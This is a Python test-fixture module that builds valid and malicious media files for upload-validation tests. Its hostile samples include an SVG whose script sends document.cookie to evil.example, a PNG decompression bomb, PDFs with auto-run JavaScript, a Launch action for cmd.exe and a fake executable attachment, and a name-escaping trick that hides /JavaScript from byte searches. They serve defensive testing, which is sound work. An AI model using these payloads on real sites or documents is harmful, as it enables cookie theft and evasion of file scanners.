"""Files for the media tests, good and bad, built byte by byte or with Pillow and pypdf.

No encoded video frames: the MP4 and WebM files hold real container metadata
(what probing reads) around placeholder media data.
"""

import io
import struct
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

# --- images ---------------------------------------------------------------------

def jpeg(width=640, height=480, *, orientation=None, gps=False, colour=(0, 94, 170), quality=90, marker=True):
    """A JPEG photo; a red square marks its top-left corner as the camera saw it."""
    picture = Image.new("RGB", (width, height), colour)
    if marker:
        picture.paste((220, 20, 20), (0, 0, width // 4, height // 4))
    exif = Image.Exif()
    exif[0x010F] = "Test Camera"
    if orientation:
        exif[0x0112] = orientation
    if gps:
        location = exif.get_ifd(0x8825)
        location[1], location[2] = "N", (21.0, 1.0, 42.0)
        location[3], location[4] = "E", (105.0, 51.0, 12.0)
    out = io.BytesIO()
    picture.save(out, format="JPEG", quality=quality, exif=exif)
    return out.getvalue()


def noisy_jpeg(width=1200, height=900):
    """A photo-like JPEG that does not compress well (about 0.5 MB at 1200 x 900)."""
    picture = Image.merge("RGB", [Image.effect_noise((width, height), 60 + 10 * band) for band in range(3)])
    out = io.BytesIO()
    picture.save(out, format="JPEG", quality=90)
    return out.getvalue()


def png(width=64, height=48):
    out = io.BytesIO()
    Image.new("RGB", (width, height), (0, 150, 136)).save(out, format="PNG")
    return out.getvalue()


def _png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_bomb(width=50_000, height=50_000):
    """A few hundred bytes claiming ``width`` x ``height`` pixels: what a decompression bomb looks like
    from outside (the header is all that is read before it is refused)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header)
            + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 4096, 9)) + _png_chunk(b"IEND", b""))


def truncated_jpeg():
    data = jpeg(800, 600, quality=95)
    return data[: len(data) // 2]


SVG_WITH_SCRIPT = (b'<?xml version="1.0" encoding="UTF-8"?>\n'
                   b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
                   b'<script>fetch("https://evil.example/?c="+document.cookie)</script>'
                   b'<circle cx="50" cy="50" r="40" fill="red"/></svg>')


# --- video containers --------------------------------------------------------------

def _box(kind, *parts):
    payload = b"".join(parts)
    return struct.pack(">I4s", 8 + len(payload), kind) + payload


def _full_box(kind, payload, version=0):
    return _box(kind, bytes([version, 0, 0, 0]), payload)


MATRIX = struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)


def _trak(handler, fourcc, *, timescale, duration, width=0, height=0, track_id=1):
    tkhd = _full_box(b"tkhd", struct.pack(">IIIII", 0, 0, track_id, 0, duration) + b"\x00" * 8
                     + struct.pack(">hhhH", 0, 0, 0, 0) + MATRIX + struct.pack(">II", width << 16, height << 16))
    mdhd = _full_box(b"mdhd", struct.pack(">IIIIHH", 0, 0, timescale, duration * timescale // 1000, 0x55C4, 0))
    hdlr = _full_box(b"hdlr", struct.pack(">I4s", 0, handler) + b"\x00" * 12 + b"handler\x00")
    entry = _box(fourcc, b"\x00" * 6 + struct.pack(">H", 1) + b"\x00" * 70)
    stsd = _full_box(b"stsd", struct.pack(">I", 1) + entry)
    return _box(b"trak", tkhd, _box(b"mdia", mdhd, hdlr, _box(b"minf", _box(b"stbl", stsd))))


def mp4(*, seconds=12.5, width=1280, height=720, video=b"avc1", audio=b"mp4a", moov_first=False, brand=b"isom"):
    """An MP4 with a real moov index (mvhd, tkhd, mdhd, hdlr, stsd) and placeholder media data."""
    duration = int(seconds * 1000)
    ftyp = _box(b"ftyp", brand, struct.pack(">I", 512), b"isomiso2avc1mp41")
    mvhd = _full_box(b"mvhd", struct.pack(">IIII", 0, 0, 1000, duration) + struct.pack(">IH", 0x10000, 0x100)
                     + b"\x00" * 10 + MATRIX + b"\x00" * 24 + struct.pack(">I", 3))
    tracks = []
    if video:
        tracks.append(_trak(b"vide", video, timescale=90000, duration=duration, width=width, height=height))
    if audio:
        tracks.append(_trak(b"soun", audio, timescale=48000, duration=duration, track_id=2))
    moov = _box(b"moov", mvhd, *tracks)
    mdat = _box(b"mdat", b"\x00" * 4096)
    return ftyp + (moov + mdat if moov_first else mdat + moov)


def _ebml(element_id, payload):
    element = element_id.to_bytes((element_id.bit_length() + 7) // 8, "big")
    return element + b"\x01" + len(payload).to_bytes(7, "big") + payload


def _uint(value, size=4):
    return value.to_bytes(size, "big")


def webm(*, seconds=8.0, width=640, height=360, video="V_VP9", audio="A_OPUS", doctype=b"webm"):
    """A WebM with EBML header, Info and Tracks, then a cluster of placeholder data."""
    header = _ebml(0x1A45DFA3, _ebml(0x4286, _uint(1, 1)) + _ebml(0x4282, doctype) + _ebml(0x4287, _uint(4, 1)))
    info = _ebml(0x1549A966, _ebml(0x2AD7B1, _uint(1_000_000)) + _ebml(0x4489, struct.pack(">d", seconds * 1000)))
    entries = b""
    if video:
        entries += _ebml(0xAE, _ebml(0xD7, _uint(1, 1)) + _ebml(0x83, _uint(1, 1)) + _ebml(0x86, video.encode())
                         + _ebml(0xE0, _ebml(0xB0, _uint(width, 2)) + _ebml(0xBA, _uint(height, 2))))
    if audio:
        entries += _ebml(0xAE, _ebml(0xD7, _uint(2, 1)) + _ebml(0x83, _uint(2, 1)) + _ebml(0x86, audio.encode()))
    cluster = _ebml(0x1F43B675, _ebml(0xE7, _uint(0, 1)) + b"\xa3\x84" + b"\x00" * 4)
    return header + _ebml(0x18538067, info + _ebml(0x1654AE6B, entries) + cluster)


# --- PDFs ----------------------------------------------------------------------------

def _writer(pages=2):
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    return writer


def _bytes(writer):
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf(pages=2):
    """A real PDF drawn by Pillow (so its first page has something on it)."""
    from demo.files import leaflet_pdf

    return leaflet_pdf(3, pages=pages)


def pdf_with_javascript():
    """Document-level JavaScript (the catalog's /Names /JavaScript tree), run when the file opens."""
    writer = _writer()
    script = writer._add_object(DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                                                  NameObject("/JS"): TextStringObject("app.alert('Xin chao');")}))
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("init"), script])})
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})
    return _bytes(writer)


def pdf_with_open_action_javascript():
    writer = _writer(1)
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                               NameObject("/JS"): TextStringObject("this.print();")})
    writer.root_object[NameObject("/OpenAction")] = action
    return _bytes(writer)


def pdf_with_embedded_file():
    writer = _writer(1)
    writer.add_attachment("payload.exe", b"MZ\x90\x00 not really a program")
    return _bytes(writer)


def pdf_with_launch_action():
    writer = _writer(1)
    action = DictionaryObject({NameObject("/S"): NameObject("/Launch"),
                               NameObject("/F"): TextStringObject("cmd.exe")})
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _bytes(writer)


def pdf_with_escaped_javascript_name():
    """/JavaScript written as /J#61vaScript: the same name to a PDF reader, invisible to a byte search."""
    data = pdf_with_open_action_javascript()
    assert b"/S /JavaScript" in data
    return data.replace(b"/S /JavaScript", b"/S /J#61vaScript", 1)


def truncated_pdf():
    data = pdf(1)
    return data[: int(len(data) * 0.6)]


VTT = ("WEBVTT\n\n"
       "1\n00:00:00.500 --> 00:00:03.000\nTham gia BHYT hộ gia đình\n\n"
       "2\n00:00:03.500 --> 00:00:06.000\nđể được chăm sóc sức khỏe.\n")
